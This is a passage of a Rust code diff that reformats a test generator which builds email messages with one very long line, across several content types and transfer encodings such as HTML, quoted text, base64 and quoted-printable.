+                cx.rng.text(size).replace('\n', " ").as_bytes(),
+                b"</p></body></html>",
+            ]
+            .concat(),
         ),
-        2 => ("text/plain", "8bit", [b"> ".as_slice(), cx.rng.text(size).replace('\n', " ").as_bytes()].concat()),
+        2 => (
+            "text/plain",
+            "8bit",
+            [
+                b"> ".as_slice(),
+                cx.rng.text(size).replace('\n', " ").as_bytes(),
+            ]
+            .concat(),
+        ),
         3 => ("text/plain", "8bit", repeat_to(b">")),
-        4 => ("text/plain", "8bit", repeat_to(b"On Mon, 2 Nov 2026 at 10:00, Ann <ann@example.org> wrote: ")),
+        4 => (
+            "text/plain",
+            "8bit",
+            repeat_to(b"On Mon, 2 Nov 2026 at 10:00, Ann <ann@example.org> wrote: "),
+        ),
         5 => ("text/html", "8bit", repeat_to(b"<div>")),
-        6 => ("text/html", "8bit", repeat_to(b"<blockquote type=\"cite\">")),
-        7 => ("text/plain", "base64", base64(cx.rng.text(size * 3 / 4).as_bytes(), false)),
-        _ => ("text/plain", "quoted-printable", quoted_printable(cx.rng.text(size / 2).as_bytes(), false)),
+        6 => (
+            "text/html",
+            "8bit",
+            repeat_to(b"<blockquote type=\"cite\">"),
+        ),
+        7 => (
+            "text/plain",
+            "base64",
+            base64(cx.rng.text(size * 3 / 4).as_bytes(), false),
+        ),
+        _ => (
+            "text/plain",
+            "quoted-printable",
+            quoted_printable(cx.rng.text(size / 2).as_bytes(), false),
+        ),
     };
     message(
         &cx.id,
         "one long line",
-        format!("Content-Type: {ctype}; charset=utf-8\r\nContent-Transfer-Encoding: {cte}\r\n").as_bytes(),
+        format!("Content-Type: {ctype}; charset=utf-8\r\nContent-Transfer-Encoding: {cte}\r\n")
+            .as_bytes(),
         &body,
     )
 }
